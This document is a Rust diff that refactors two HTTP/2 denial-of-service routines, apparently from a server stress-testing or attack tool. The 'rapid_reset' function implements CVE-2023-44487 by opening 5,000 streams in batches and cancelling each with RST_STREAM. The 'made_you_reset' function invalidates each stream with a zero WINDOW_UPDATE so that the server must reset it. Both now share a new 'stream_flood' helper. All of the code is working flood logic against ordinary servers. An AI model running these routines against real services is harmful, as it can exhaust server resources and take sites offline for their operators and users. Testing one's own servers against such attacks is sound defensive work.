@@ -89,30 +89,28 @@ impl Raw {
 
 /// Rapid reset (CVE-2023-44487): streams opened and cancelled at once, 5,000 of them.
 pub fn rapid_reset(raw: &mut Raw) {
-    let mut id = 1;
-    for _ in 0..50 {
-        let mut out = Vec::new();
-        for _ in 0..100 {
-            raw.get(id, "/big.bin", true, &mut out);
-            frame::put_rst_stream(&mut out, id, frame::Reason::CANCEL);
-            id += 2;
-        }
-        if !raw.send(&out) {
-            break;
-        }
-    }
+    stream_flood(raw, true, |out, id| {
+        frame::put_rst_stream(out, id, frame::Reason::CANCEL)
+    });
 }
 
 /// "MadeYouReset": each stream is made invalid after opening (WINDOW_UPDATE of 0), so the
 /// server must reset it; those resets count against the same budget.
 pub fn made_you_reset(raw: &mut Raw) {
+    stream_flood(raw, false, |out, id| {
+        frame::put_head(out, 4, kind::WINDOW_UPDATE, 0, id);
+        out.extend_from_slice(&[0, 0, 0, 0]);
+    });
+}
+
+/// Opens 5,000 streams in batches of 100, each followed by what `then` writes for it.
+fn stream_flood(raw: &mut Raw, end_stream: bool, then: fn(&mut Vec<u8>, u32)) {
     let mut id = 1;
     for _ in 0..50 {
         let mut out = Vec::new();
         for _ in 0..100 {
-            raw.get(id, "/big.bin", false, &mut out);
-            frame::put_head(&mut out, 4, kind::WINDOW_UPDATE, 0, id);
-            out.extend_from_slice(&[0, 0, 0, 0]);
+            raw.get(id, "/big.bin", end_stream, &mut out);
+            then(&mut out, id);
             id += 2;
         }
         if !raw.send(&out) {
